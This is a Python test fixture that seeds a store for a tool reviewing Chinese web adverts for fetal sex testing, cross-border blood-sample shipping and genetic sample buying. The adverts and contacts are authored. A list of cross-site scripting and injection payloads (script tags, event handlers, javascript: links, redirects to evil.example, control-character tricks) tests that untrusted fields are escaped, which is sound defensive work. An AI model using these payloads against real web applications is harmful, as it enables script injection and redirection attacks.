"""A store as an analyst finds it in the morning, filled through its own interface. All text and contacts are authored."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

from core.store import Store
from core.types import Capture, Document, Judgement, Lead, Provenance, Refusal, Span
from review import accounts, search
from text.contacts import find_contacts

NOW = datetime(2026, 11, 20, 22, 30, tzinfo=UTC)  # 21 November, 06:30 in Beijing
RATER = "model:stack@4f2c81d09ab3"
PASSWORD = "zq0-correct-horse"
SOURCES = ("baobao-forum", "gangjian-blog", "shenghuo-board", "jiuwu-luntan")
CUES = {
    "寄血": "speaks of posting, carrying or clearing; speaks of blood samples or tubes", "过港": "names Hong Kong or the way there", "通行证": "speaks of the border, customs or abroad",
    "代理": "recruits helpers with pay", "返": "recruits helpers with pay", "唾液": "speaks of genetic data", "包男孩": "speaks of the child's sex",
    "B超单": "names weeks of pregnancy or the size of sac and embryo", "看报告": "offers a service", "顺丰": "speaks of posting, carrying or clearing",
}  # fmt: skip
# label, title, text, source, priority, nights since it was first seen, documents
ADVERTS = [
    ("sample_shipping_ad", "不用过关也能知道结果，全国上门取样", "满七周就行，家里抽好我们安排寄血，当天顺丰到深圳，第二天看报告。\n浙江、福建都有人上门，四千八全包，准确率99%以上。\n加薇 zq0yangben88，或打13800000017。", "shenghuo-board", 0.871, 0, 3),
    ("fetal_sex_test_ad", "七周过港一趟，下午就能看报告，加薇 zq0gang66", "罗湖口岸有人接，带通行证和B超单，广东、湖南的姐妹提前两天约。\n5800元一口价，当天出结果，微信：zq0gang66", "baobao-forum", 0.744, 0, 2),
    ("fetal_sex_test_ad", "我是怎么提前准备小裙子的（附路线和预约的地方）", "从杭州出发，香港当天来回，四千八全包。全程有人带，路线在 t.me/zq0route。", "gangjian-blog", 0.612, 6, 13),
    ("sample_shipping_ad", "寄血到港流程，一盒到家", "孕囊大于2.5厘米就可以寄血，采血盒包邮，江苏、山东次日达。QQ：100000456", "wenda-site", 0.584, 1, 1),
    ("agent_recruitment_ad", "招各地代理，手里有宝妈资源的来", "成一单返八百，广西、江西优先，日结。代理问 QQ 100000456", "baobao-forum", 0.548, 2, 2),
    ("genetic_acquisition_ad", "家族三代同村的，寄一管唾液给六百", "云南、贵州的家庭优先，唾液样本寄境外合作方。邮箱 zq0saliva@lab.example", "wenda-site", 0.533, 9, 1),
    ("fetal_sex_test_ad", "港检预约攻略 2026 版", "过港前先发B超单，8周最稳，北京、天津可约周末，六千五。", "gangjian-blog", 0.467, 0, 4),
    ("sex_selection_ad", "三代试管包男孩，签约不成功退款", "曼谷医院直签，四川、重庆都有服务点，二十万起。", "wenda-site", 0.301, 12, 1),
]  # fmt: skip
HOSTILE = [
    "<script>pwned(1)</script>", '"><img src=x onerror=pwned(2)>', "<svg/onload=pwned(3)>", "javascript:pwned(4)//", "</textarea><script>pwned(5)</script>",
    "{{ pwned(6) }}", "${pwned(7)}", "<iframe srcdoc='<script>parent.pwned(8)</script>'>", "' autofocus onfocus=pwned(9) x='", "<a href=javascript:pwned(10)>x</a>",
    "<style>*{display:none}</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "\u202egnp.exe\u202c \u2066x\u2069 \x00\x1b[2J",
    "<form action=//evil.example><button>x</button></form>", "Z̸̡̢̛̛̛̛͓̦̪͎̒̓̈́̍̂̽̓͋a̶lgo", "\ud83d lone",
]  # fmt: skip


class Clock:
    """A clock that moves when it is told to."""

    def __init__(self) -> None:
        self.time = NOW

    def __call__(self) -> datetime:
        return self.time

    def forward(self, **span: float) -> None:
        self.time += timedelta(**span)


def filled(path: Path) -> Store:
    """Eight leads, a hostile one, accounts of every role, patrols of which one source fell silent, and an index."""
    store = Store.open(path)
    for nights in (2, 1, 0):
        patrol(store, NOW - timedelta(days=nights, hours=4), nights)
    for number, (label, title, text, source, priority, nights, count) in enumerate(ADVERTS):
        texts = [text if place == 0 else f"{text}\n（第{place + 1}次发，名额不多）" for place in range(count)]
        add_lead(store, f"L{number:010x}", label, title, texts, source, priority, NOW - timedelta(days=nights, hours=3))
    add_hostile(store)
    store.leads.add_event("L0000000002", "grown", {"documents": [1]}, NOW - timedelta(hours=3))
    for name, role in [("mei", "analyst"), ("bo", "analyst"), ("vera", "viewer"), ("lin", "lead_reviewer"), ("rui", "researcher"), ("ops", "operator"), ("aud", "auditor")]:  # fmt: skip
        accounts.add(store, name, role, PASSWORD, NOW)
    search.refresh(store)
    return store


def patrol(store: Store, at: datetime, nights: int) -> None:
    """One nightly patrol; the old forum gave nothing in the last two."""
    run = store.runs.start("crawl", at, {"sources": list(SOURCES)})
    for source in SOURCES:
        for page in range(3):
            capture(
                store,
                f"urn:uuid:{nights}-{source}-{page}",
                source,
                f"http://{source}.example/l/{nights}-{page}",
                at,
                run,
            )
        if source != "jiuwu-luntan" or nights == 2:
            document = Document(
                source,
                f"quiet-{nights}",
                f"http://{source}.example/q/{nights}",
                "post",
                "婴儿车转让，九成新。",
                source=source,
            )
            store.documents.add(document, at, run)
    for reason, number in {"robots.txt": 3, "wall": 2 - nights, "client error": 1}.items():
        for page in range(number):
            store.refusals.add(
                Refusal(f"http://{SOURCES[page]}.example/admin/{page}", SOURCES[page], reason, "", at, run)
            )
    store.runs.finish(run, at + timedelta(minutes=40), {})


def capture(store: Store, id: str, source: str, url: str, at: datetime, run: int | None = None) -> str:
    """A capture of a page."""
    digest = hashlib.sha256(url.encode("utf-8", "replace")).hexdigest()
    store.captures.add(
        Capture(
            id,
            source,
            url,
            at,
            200,
            "text/html",
            digest,
            9,
            "archive/2026-11-20.warc.gz",
            4096,
            "allowed",
            Provenance.LIVE,
            run,
        )
    )
    return id


def add_lead(
    store: Store,
    id: str,
    label: str,
    title: str,
    texts: list[str],
    source: str,
    priority: float,
    at: datetime,
    author: str = "小云妈妈",
) -> None:
    """A lead with its documents, judgements, contacts, captures and event."""
    documents: list[int] = []
    contacts: dict[tuple[str, str], None] = {}
    for place, text in enumerate(texts):
        url = f"http://{source}.example/t/{id}-{place}"
        origin = capture(store, f"urn:uuid:{id}-{place}", source, url, at)
        document = Document(
            source, f"{id}-{place}", url, "post", text, title, author, at, source=source, capture=origin
        )
        number, _ = store.documents.add(document, at)
        spans = [
            Span(text.index(cue), text.index(cue) + len(cue), cue, reason)
            for cue, reason in CUES.items()
            if cue in text
        ]
        store.judgements.add([(number, 1, Judgement(label, True, 0.93, RATER, spans=tuple(spans)))], at)
        points = find_contacts(text, title)
        store.contact_points.add(number, 1, points, flagged=True)
        contacts |= {(str(point.kind), point.canonical): None for point in points if point.confidence >= 0.5}
        documents.append(number)
    reasons = (
        f"probability 0.93: highest score of {len(documents)} document{'s'[: len(documents) > 1]}", "harm 0.8: 胎儿性别检测广告",
        f"novelty 1.00: last seen {(NOW - at).days} days ago", "reachability 1.0: 2 contacts (phone, wechat)" if contacts else "reachability 0.6: no contact found",
        f"spread 1.20: {len(documents)} documents on 1 platforms",
    )  # fmt: skip
    lead = Lead(id, label, title, tuple(documents), tuple(contacts), priority, reasons, at, at)
    kind, value = next(iter(contacts), ("", ""))
    why = f"{kind} {value} in {len(documents)} documents" if value and len(documents) > 1 else "on its own"
    store.leads.put(lead, dict.fromkeys(documents, why), at)
    store.leads.add_event(id, "new", {"documents": documents}, at)


def add_hostile(store: Store) -> None:
    """A lead in which every field that comes from outside is an attack."""
    at = NOW - timedelta(hours=2)
    documents = []
    for place, payload in enumerate(HOSTILE):
        url = f"javascript:pwned(90)//{payload}"
        origin = capture(
            store, f"urn:uuid:hostile-{place}", payload[:20].replace("\ud83d", "?"), url.replace("\ud83d", "?"), at
        )
        document = Document(
            f"p{payload[:10]}".replace("\ud83d", "?"), f"h{place}", url, "post", f"{payload}\n寄血 {payload}", payload, payload,
            published_raw=payload.replace("\ud83d", "?"), source=payload.replace("\ud83d", "?"), capture=origin,
        )  # fmt: skip
        number, _ = store.documents.add(document, at)
        spans = (Span(0, 5, payload[:5].replace("\ud83d", "?"), payload),)
        store.judgements.add([(number, 1, Judgement("fetal_sex_test_ad", True, 0.99, RATER, spans=spans))], at)
        documents.append(number)
    contacts = tuple(("wechat", payload) for payload in HOSTILE[:2])
    lead = Lead(
        "Lhostile", "fetal_sex_test_ad", HOSTILE[1], tuple(documents), contacts, 0.05, tuple(HOSTILE[:4]), at, at
    )
    store.leads.put(lead, dict.fromkeys(documents, HOSTILE[0]), at)
    store.leads.add_event("Lhostile", "new", {"documents": documents}, at)
    store.refusals.add(Refusal("javascript:pwned(91)", HOSTILE[0], HOSTILE[2], "", at))
